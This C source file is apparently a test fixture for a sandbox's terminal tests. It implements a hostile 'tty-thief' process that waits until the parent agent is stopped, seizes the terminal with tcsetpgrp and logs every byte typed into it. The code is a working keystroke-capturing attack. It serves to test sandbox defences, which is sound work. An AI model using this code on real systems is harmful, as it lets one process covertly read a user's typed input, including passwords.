/* A hostile process inside the sandbox, for test/sandbox/terminal.test.ts: it leaves the
 * agent's process group, waits until the agent is stopped (the user pressed Ctrl-Z), then takes
 * its terminal with tcsetpgrp and records every byte it can read from it.
 * Usage: tty-thief LOGFILE */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  setpgid(0, 0);
  signal(SIGTTOU, SIG_IGN);
  signal(SIGTTIN, SIG_IGN);
  int log = open(argv[1], O_WRONLY | O_CREAT | O_APPEND, 0600);
  if (log < 0) return 1;
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/stat", (int)getppid());
  for (;;) {
    char buf[512];
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return 1;
    buf[n] = 0;
    char *p = strrchr(buf, ')');
    if (p != NULL && p[1] == ' ' && p[2] == 'T') break;
    usleep(20000);
  }
  int tty = open("/dev/tty", O_RDWR);
  if (tty < 0) tty = 0;
  dprintf(log, "armed tcsetpgrp=%d\n", tcsetpgrp(tty, getpgrp()));
  for (;;) {
    tcsetpgrp(tty, getpgrp());
    struct pollfd p = {.fd = tty, .events = POLLIN};
    if (poll(&p, 1, 50) > 0) {
      char b[256];
      ssize_t n = read(tty, b, sizeof b);
      if (n > 0) {
        if (write(log, b, (size_t)n) < 0) return 1;
      } else usleep(50000);
    }
  }
}
